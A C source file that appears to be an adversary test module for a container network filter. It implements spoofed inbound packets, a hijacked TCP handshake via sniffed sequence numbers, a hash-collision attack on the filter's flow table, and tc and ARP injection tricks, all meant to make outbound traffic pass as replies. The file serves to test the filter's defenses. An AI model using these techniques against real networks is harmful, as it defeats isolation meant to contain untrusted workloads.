/* SPDX-License-Identifier: Apache-2.0 */
/* As if it had come from outside: a packet socket puts into the container's own stack what the
 * target never sent, so that what is sent to the target looks like an answer. */
#include "../adversary.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define SYN	    2
#define ACK	    16
#define LISTEN_PORT 6997

static int inject(const struct attempt *attempt, const uint8_t *packet, size_t size)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	uint8_t frame[ROOM + ETH_HLEN];
	struct ifreq request = {.ifr_name = "lo"};

	/* lo has no address, as a rule, but can be given one. */
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request))
		return -errno;
	put_ethernet(frame, attempt, is_v6(&attempt->target) ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	memcpy(frame, request.ifr_hwaddr.sa_data, 6);
	memset(frame + 6, 0, 6);
	memcpy(frame + ETH_HLEN, packet, size);
	return send_frame("lo", frame, ETH_HLEN + size);
}

VECTOR(reflected_echo)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_echo(packet, &attempt->target, &attempt->own, attempt->token));
}

VECTOR(reflected_udp)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_udp(packet, &attempt->target, &attempt->own, 6998, attempt->token));
}

VECTOR(reflected_syn)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_tcp(packet, &attempt->target, &attempt->own, 6998, SYN, NULL));
}

static int listen_here(const struct attempt *attempt, uint16_t port)
{
	union any here = with_port(&attempt->own, port);
	int fd = bound_socket(&here, SOCK_STREAM, 0);

	return fd < 0 ? fd : listen(fd, 8) ? -errno : fd;
}

/* The SYN-ACK is a listener's, and its numbers are the application's choice. */
VECTOR(reflected_syn_to_listener)
{
	int listener = listen_here(attempt, LISTEN_PORT);
	uint8_t packet[ROOM];

	if (listener < 0)
		return listener;
	return inject(attempt, packet,
		      put_tcp(packet, &attempt->target, &attempt->own, LISTEN_PORT, SYN, NULL));
}

/* The number of the SYN-ACK, seen as it leaves. */
static int watch_answer(int sniffer, const struct attempt *attempt, uint32_t *ret_number)
{
	struct pollfd poller = {.fd = sniffer, .events = POLLIN};
	size_t head = ETH_HLEN + header_size(&attempt->target), size;
	const void *wanted = bytes_of(&attempt->target, &size);
	uint8_t frame[ROOM];

	while (poll(&poller, 1, PATIENCE_MS) == 1) {
		ssize_t length = recv(sniffer, frame, sizeof(frame), 0);

		if (length < (ssize_t)(head + TCP_SIZE) || frame[head + 13] != (SYN | ACK) ||
		    memcmp(frame + head - size, wanted, size) != 0)
			continue;
		memcpy(ret_number, frame + head + 4, 4);
		*ret_number = ntohl(*ret_number);
		return 0;
	}
	return -ETIMEDOUT;
}

typedef int (*between_fn)(const struct attempt *attempt, uint32_t number);

/* A whole connection "from" the target, accepted here: what is sent on it is an answer. between:
 * what is done when the number of the SYN-ACK is known. */
static int connection_in(const struct attempt *attempt, uint16_t port, between_fn between)
{
	int listener = listen_here(attempt, port), result, accepted;
	int sniffer = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct pollfd poller = {.fd = listener, .events = POLLIN};
	struct segment last = {.source = SOURCE,
			       .port = port,
			       .number = FIRST_NUMBER + 1,
			       .flags = ACK};
	uint8_t packet[ROOM];
	uint32_t number;

	if (listener < 0 || sniffer < 0)
		return -errno;
	result = inject(attempt, packet,
			put_tcp(packet, &attempt->target, &attempt->own, port, SYN, NULL));
	result = result ?: watch_answer(sniffer, attempt, &number);
	if (!result && between)
		result = between(attempt, number);
	if (result)
		return result;
	last.acknowledged = number + 1;
	result = inject(attempt, packet,
			put_segment(packet, &attempt->target, &attempt->own, &last));
	if (result || poll(&poller, 1, PATIENCE_MS) != 1)
		return result ?: -ETIMEDOUT;
	accepted = accept(listener, NULL, NULL);
	return accepted < 0 ? -errno
			    : sent(send(accepted, attempt->token, strlen(attempt->token), 0));
}

VECTOR(reflected_connection)
{
	return connection_in(attempt, LISTEN_PORT, NULL);
}

/* The hash of pg_link_hash() in bpf/link_table.bpf.h, and what gives it for another address. */
#define ODD	0x9e3779b1U
#define INVERSE 0xe8b2f51U

static void words_of(const union any *address, uint32_t *words)
{
	union any mapped = {0};
	size_t size;
	const void *bytes = bytes_of(address, &size);

	mapped.in6.sin6_addr.s6_addr[10] = mapped.in6.sin6_addr.s6_addr[11] = 0xff;
	memcpy(size == 4 ? mapped.in6.sin6_addr.s6_addr + 12 : mapped.in6.sin6_addr.s6_addr, bytes,
	       size);
	memcpy(words, &mapped.in6.sin6_addr, 16);
}

static uint32_t hash_of(const uint32_t *words, uint32_t hash)
{
	hash = (hash ^ words[3]) * ODD;
	for (int i = 2; i >= 0; i--)
		hash = (hash ^ words[i] ^ hash >> 15) * ODD;
	return hash ^ hash >> 16;
}

static uint32_t unhash(const uint32_t *words, uint32_t hash)
{
	hash ^= hash >> 16;
	for (int i = 0; i < 3; i++) {
		hash = hash * INVERSE ^ words[i];
		hash ^= hash >> 15 ^ hash >> 30;
	}
	return hash * INVERSE ^ words[3];
}

/* Ports of a packet to A, and of one from the target to port, of which the hash is the same. */
static struct segment ports_alike;

static uint16_t find_ports(const struct attempt *attempt)
{
	uint32_t allowed[4], target[4], both, found;

	words_of(&attempt->allowed, allowed);
	words_of(&attempt->target, target);
	for (uint32_t ports = 0x20000001; ports; ports++) {
		both = htons((uint16_t)(ports >> 16)) << 16 | htons((uint16_t)ports);
		found = unhash(target, hash_of(allowed, both));
		if (ntohs((uint16_t)found) != SOURCE || ntohs((uint16_t)(found >> 16)) < 1024)
			continue;
		ports_alike = (struct segment){.source = (uint16_t)(ports >> 16),
					       .port = (uint16_t)ports,
					       .flags = SYN};
		return ntohs((uint16_t)(found >> 16));
	}
	return 0;
}

/* A is asked for something that it refuses: its answer acknowledges the number. */
static int ask_allowed(const struct attempt *attempt, uint32_t number)
{
	uint8_t packet[ROOM];
	int result;

	ports_alike.number = number;
	result = send_packet(packet,
			     put_segment(packet, &attempt->own, &attempt->allowed, &ports_alike),
			     &attempt->allowed);
	usleep(20000);
	return result == -EPERM ? 0 : result;
}

/* A's answer is taken for what completes that connection, if only a hash is compared. */
VECTOR(reflected_collision)
{
	uint16_t port = find_ports(attempt);

	return connection_in(attempt, port, ask_allowed);
}

/* What goes to lo comes in by the container's device (NET_ADMIN). */
static int turned(const struct attempt *attempt, vector_fn function)
{
	int result = shell("tc qdisc add dev lo clsact; tc filter add dev lo egress protocol all "
			   "u32 match u32 0 0 action mirred ingress redirect dev " DEVICE);

	result = result ?: function(attempt);
	usleep(2000);
	shell("tc qdisc del dev lo clsact");
	return result;
}

static int frame_in(const struct attempt *attempt, const uint8_t *packet, size_t size,
		    uint16_t type)
{
	uint8_t frame[ROOM + ETH_HLEN];

	put_ethernet(frame, attempt, type);
	memcpy(frame, attempt->mac, 6);
	memcpy(frame + 6, attempt->made_mac, 6);
	memcpy(frame + ETH_HLEN, packet, size);
	return send_frame("lo", frame, ETH_HLEN + size);
}

static uint16_t ip_type(const struct attempt *attempt)
{
	return is_v6(&attempt->target) ? ETHERTYPE_IPV6 : ETHERTYPE_IP;
}

static int echo_in(const struct attempt *attempt)
{
	uint8_t packet[ROOM];

	return frame_in(attempt, packet,
			put_echo(packet, &attempt->target, &attempt->own, attempt->token),
			ip_type(attempt));
}

VECTOR(injected_echo)
{
	return turned(attempt, echo_in);
}

/* The flow is known as one from outside; then it is answered. */
static int udp_in(const struct attempt *attempt)
{
	union any here = with_port(&attempt->own, LISTEN_PORT), to;
	int fd = bound_socket(&here, SOCK_DGRAM, 0), result;
	struct pollfd poller = {.fd = fd, .events = POLLIN};
	uint8_t packet[ROOM];

	result = frame_in(attempt, packet,
			  put_udp(packet, &attempt->target, &attempt->own, LISTEN_PORT, "x"),
			  ip_type(attempt));
	if (result || poll(&poller, 1, PATIENCE_MS) != 1)
		return result ?: -ETIMEDOUT;
	to = with_port(&attempt->target, SOURCE);
	return send_token(fd, attempt, &to);
}

VECTOR(injected_udp)
{
	return turned(attempt, udp_in);
}

/* A question of a station that there is not; the answer goes to it. */
static int arp_in(const struct attempt *attempt)
{
	uint8_t arp[28];
	size_t size;

	memcpy(arp, "\0\1\x08\0\6\4\0\1", 8);
	memcpy(arp + 8, attempt->made_mac, 6);
	memcpy(arp + 14, bytes_of(&attempt->onlink, &size), 4);
	memset(arp + 18, 0, 6);
	memcpy(arp + 24, bytes_of(&attempt->own, &size), 4);
	return frame_in(attempt, arp, sizeof(arp), ETHERTYPE_ARP);
}

VECTOR(injected_arp)
{
	return turned(attempt, arp_in);
}
